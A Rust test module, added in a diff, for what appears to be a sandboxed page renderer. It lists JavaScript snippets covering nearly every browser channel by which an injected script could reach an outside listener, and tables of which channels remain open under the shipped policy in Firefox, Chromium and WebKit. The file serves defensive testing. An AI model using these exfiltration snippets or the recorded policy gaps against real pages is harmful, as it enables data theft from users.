@@ -1,0 +1,316 @@
+//! Every way that is known for a page to reach another machine, as a script would try it that somehow got
+//! in; and what is known to remain open, by engine.
+//!
+//! In each script `at` is a host and port that nobody else is told, `url` an address there.
+
+use crate::page::Origin;
+use crate::sink::Ways;
+
+/// Ways that leave the page where it is: all are tried at once.
+pub(crate) const QUIET: &[(&str, &str)] = &[
+    ("fetch", "fetch(url, { mode: 'no-cors' }).catch(ignore)"),
+    (
+        "fetch-keepalive",
+        "fetch(url, { mode: 'no-cors', keepalive: true }).catch(ignore)",
+    ),
+    (
+        "xhr",
+        "const r = new XMLHttpRequest(); r.open('GET', url); r.send()",
+    ),
+    ("beacon", "navigator.sendBeacon(url, 'x')"),
+    ("websocket", "new WebSocket(`ws://${at}/`)"),
+    ("eventsource", "new EventSource(url)"),
+    (
+        "webtransport",
+        "new WebTransport(`https://${at}/`).ready.catch(ignore)",
+    ),
+    ("image", "new Image().src = url"),
+    ("script", "add('script', { src: url })"),
+    ("style", "add('link', { rel: 'stylesheet', href: url })"),
+    (
+        "style-import",
+        "add('style', { textContent: `@import '${url}'` })",
+    ),
+    (
+        "style-background",
+        "add('p', { textContent: 'x' }).style.backgroundImage = `url(${url})`",
+    ),
+    (
+        "font",
+        "new FontFace('x', `url(${url})`).load().catch(ignore)",
+    ),
+    ("frame", "add('iframe', { src: url })"),
+    ("object", "add('object', { data: url })"),
+    ("embed", "add('embed', { src: url })"),
+    ("video", "add('video', { preload: 'auto', src: url })"),
+    ("audio", "add('audio', { preload: 'auto', src: url })"),
+    ("prefetch", "add('link', { rel: 'prefetch', href: url })"),
+    (
+        "preload",
+        "add('link', { rel: 'preload', as: 'image', href: url })",
+    ),
+    (
+        "modulepreload",
+        "add('link', { rel: 'modulepreload', href: url })",
+    ),
+    (
+        "preconnect",
+        "add('link', { rel: 'preconnect', href: url })",
+    ),
+    ("manifest", "add('link', { rel: 'manifest', href: url })"),
+    ("icon", "add('link', { rel: 'icon', href: url })"),
+    ("import", "import(url).catch(ignore)"),
+    ("worker", "new Worker(url)"),
+    (
+        "speculation",
+        "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }) })",
+    ),
+    (
+        "ping",
+        "add('a', { href: '#ping', ping: url, textContent: 'x' }).click()",
+    ),
+    (
+        "form-in-frame",
+        "add('iframe', { name: 'inside' }); add('form', { action: url, target: 'inside', method: 'post' }).submit()",
+    ),
+    (
+        "webrtc",
+        "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)).catch(ignore)",
+    ),
+];
+
+/// Ways that lead away, or would. The listener answers that there is nothing to show, so the page stays;
+/// but only the last one counts when there are several, so they are tried one after the other.
+pub(crate) const LEADING_AWAY: &[(&str, &str)] = &[
+    ("navigation", "location.href = url"),
+    ("link", "add('a', { href: url, textContent: 'x' }).click()"),
+    (
+        "download",
+        "add('a', { href: url, download: 'x', textContent: 'x' }).click()",
+    ),
+    (
+        "refresh",
+        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${url}`; document.head.append(m)",
+    ),
+    ("form", "add('form', { action: url }).submit()"),
+    (
+        "window",
+        "const w = window.open(url); setTimeout(() => w?.close(), 3000)",
+    ),
+];
+
+/// Ways out of the worker, which holds the key.
+pub(crate) const IN_WORKER: &[(&str, &str)] = &[
+    ("fetch", "fetch(url, { mode: 'no-cors' }).catch(ignore)"),
+    (
+        "fetch-keepalive",
+        "fetch(url, { mode: 'no-cors', keepalive: true }).catch(ignore)",
+    ),
+    (
+        "xhr",
+        "const r = new XMLHttpRequest(); r.open('GET', url); r.send()",
+    ),
+    (
+        "xhr-synchronous",
+        "const r = new XMLHttpRequest(); r.open('GET', url, false); r.send()",
+    ),
+    ("beacon", "navigator.sendBeacon(url, 'x')"),
+    ("websocket", "new WebSocket(`ws://${at}/`)"),
+    ("eventsource", "new EventSource(url)"),
+    (
+        "webtransport",
+        "new WebTransport(`https://${at}/`).ready.catch(ignore)",
+    ),
+    (
+        "font",
+        "const f = new FontFace('x', `url(${url})`); self.fonts.add(f); f.load().catch(ignore)",
+    ),
+    ("import-scripts", "importScripts(url)"),
+    ("import", "import(url).catch(ignore)"),
+    ("worker", "new Worker(url)"),
+    (
+        "streamed-wasm",
+        "WebAssembly.compileStreaming(fetch(url, { mode: 'no-cors' })).catch(ignore)",
+    ),
+    (
+        "cache",
+        "caches.open('x').then((cache) => cache.add(url)).catch(ignore)",
+    ),
+    (
+        "inner-worker",
+        "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' }).catch(() => {})`])))",
+    ),
+    (
+        "webrtc",
+        "new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] }).createDataChannel('x')",
+    ),
+    ("navigation", "location.href = url"),
+    ("window", "clients.openWindow(url)"),
+];
+
+/// Where a way starts.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+pub(crate) enum Realm {
+    Page,
+    Worker,
+}
+
+/// What is known of some ways: in this engine, from this realm, under this origin (none: under all).
+type Row = (&'static str, Realm, Option<Origin>, &'static [&'static str]);
+
+use Origin::{File, Http};
+use Realm::{Page, Worker};
+
+/// What an engine has not, or does not do in such a page: the listener hears nothing even without a policy.
+/// Scripts of workers must be of the page's own origin; manifests are fetched by who installs; the page has
+/// its icon inside. WebTransport, caches and some more are for secure contexts only.
+const NEVER: &[Row] = &[
+    (
+        "firefox",
+        Page,
+        None,
+        &["manifest", "ping", "speculation", "worker"],
+    ),
+    ("firefox", Page, Some(File), &["prefetch"]),
+    ("firefox", Page, Some(Http), &["webtransport"]),
+    (
+        "firefox",
+        Worker,
+        None,
+        &["beacon", "navigation", "webrtc", "window", "worker"],
+    ),
+    ("firefox", Worker, Some(Http), &["cache", "webtransport"]),
+    ("chromium", Page, None, &["icon", "manifest", "worker"]),
+    ("chromium", Page, Some(Http), &["webtransport"]),
+    (
+        "chromium",
+        Worker,
+        None,
+        &["beacon", "navigation", "webrtc", "window", "worker"],
+    ),
+    ("chromium", Worker, Some(Http), &["cache", "webtransport"]),
+    (
+        "webkit",
+        Page,
+        None,
+        &[
+            "icon",
+            "manifest",
+            "prefetch",
+            "speculation",
+            "webrtc",
+            "webtransport",
+            "worker",
+        ],
+    ),
+    (
+        "webkit",
+        Worker,
+        None,
+        &[
+            "beacon",
+            "font",
+            "navigation",
+            "webrtc",
+            "webtransport",
+            "window",
+            "worker",
+        ],
+    ),
+    ("webkit", Worker, Some(File), &["inner-worker"]),
+    ("webkit", Worker, Some(Http), &["cache"]),
+];
+
+/// What still reaches the listener under the shipped policy, as SECURITY.md tells: a page may always lead
+/// somewhere else, and no policy speaks of WebRTC. Where it says `connection`, a connection is opened and
+/// nothing is sent on it: no engine asks the policy before it connects ahead, and Chromium connects to where
+/// a frame or form would go before it asks. From the worker nothing comes.
+const REMAINS: &[Row] = &[
+    (
+        "firefox",
+        Page,
+        None,
+        &[
+            "preconnect:connection",
+            "download",
+            "link",
+            "navigation",
+            "refresh",
+            "webrtc",
+            "window",
+        ],
+    ),
+    (
+        "chromium",
+        Page,
+        None,
+        &[
+            "form:connection",
+            "form-in-frame:connection",
+            "frame:connection",
+            "preconnect:connection",
+            "download",
+            "link",
+            "navigation",
+            "refresh",
+            "webrtc",
+            "window",
+        ],
+    ),
+    (
+        "webkit",
+        Page,
+        None,
+        &[
+            "preconnect:connection",
+            "download",
+            "link",
+            "navigation",
+            "refresh",
+            "window",
+        ],
+    ),
+];
+
+/// Every way from here.
+pub(crate) fn all(realm: Realm) -> Vec<&'static str> {
+    match realm {
+        Page => names(QUIET)
+            .into_iter()
+            .chain(names(LEADING_AWAY))
+            .collect(),
+        Worker => names(IN_WORKER),
+    }
+}
+
+/// What must be heard when no policy forbids it.
+pub(crate) fn heard_without_policy(engine: &str, realm: Realm, origin: Origin) -> Ways {
+    let mut ways: Ways = all(realm).into_iter().map(str::to_owned).collect();
+    for name in listed(NEVER, engine, realm, origin) {
+        ways.remove(&name);
+    }
+    // No request is what it is.
+    if ways.remove("preconnect") {
+        ways.insert("preconnect:connection".into());
+    }
+    ways
+}
+
+/// What must be heard under the shipped policy, and nothing else.
+pub(crate) fn heard_under_policy(engine: &str, realm: Realm, origin: Origin) -> Ways {
+    listed(REMAINS, engine, realm, origin)
+}
+
+fn listed(rows: &[Row], engine: &str, realm: Realm, origin: Origin) -> Ways {
+    let here =
+        |row: &&Row| row.0 == engine && row.1 == realm && row.2.is_none_or(|it| it == origin);
+    rows.iter()
+        .filter(here)
+        .flat_map(|row| row.3.iter().map(|name| (*name).to_owned()))
+        .collect()
+}
+
+/// The names of ways.
+pub(crate) fn names(ways: &[(&'static str, &str)]) -> Vec<&'static str> {
+    ways.iter().map(|(name, _)| *name).collect()
+}
